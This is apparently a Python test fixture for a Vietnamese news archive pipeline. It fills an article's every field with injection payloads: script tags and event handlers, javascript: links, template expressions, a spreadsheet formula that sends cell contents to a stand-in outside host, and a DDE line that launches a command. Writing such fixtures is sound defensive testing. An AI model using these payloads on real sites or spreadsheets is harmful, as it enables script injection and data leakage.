"""What somebody hostile would have an archive keep: code for a browser, for a template and for a spreadsheet, in every field."""

from dataclasses import replace

import sqlite_utils

from pipelines import figure_rows
from spiders.items import Figures, Period, Place
from tests.archive_samples import Sample, insert
from tests.figure_samples import metric

FORMULA = '=HYPERLINK("http://outside.example/?"&A1,"xem")'
CODE = (
    "<script>alert('bẫy')</script>", "<img src=http://outside.example/x.png onerror=alert('bẫy')>", "<svg onload=alert('bẫy')>",
    "</title></textarea></script><script>alert('bẫy')</script>", "{{7*7}}", "{% raise %}", "' onmouseover='alert(1)' \"",
    "javascript:alert(1)", FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "‹b›", "]]>", "<!--",
)  # fmt: skip
TRAP = " ".join(CODE)
TITLE = f"Bẫy {TRAP}"


def plant(db: sqlite_utils.Database) -> int:
    """Put one article made of TRAP in, with a figure made of it; return its id."""
    lead = f"Dẫn đề bẫy {TRAP}"
    text = f"{lead}\nNăm 2023, {TRAP} thu hồi 7 tỷ đồng."
    with db.atomic():
        number = insert(
            db,
            Sample(
                title=TITLE, sapo=lead, text=text, author=TRAP, source=TRAP, section=TRAP, tables=((CODE, CODE),),
                images=(("javascript:alert(1)", TRAP),), attachments=(("data:text/html,<script>alert(1)</script>", TRAP, TRAP),),
                address="javascript:alert('bẫy')", published="2026-11-19T02:15:00Z",
            ),
        )  # fmt: skip
        made = metric(
            text,
            "7 tỷ đồng",
            "7 tỷ đồng",
            "money",
            "7000000000",
            "VND",
            indicator="recovery_recommended_amount",
            agency=TRAP,
        )
        made = replace(
            made, period=Period("period", TRAP, 0, 1, "2023-01-01", "2023-12-31"), place=Place(TRAP, TRAP, "24"), per=TRAP,
            base=TRAP, flags=(TRAP,),
        )  # fmt: skip
        figure_rows.write(db.conn, number, f"cong-binh-an:{number}", text, Figures((made,)), "1")
        formula = insert(db, Sample(title=FORMULA, text=f"Đoạn văn bẫy.\n{FORMULA}", published="2026-11-19T03:15:00Z"))
    assert formula == number + 1
    return number
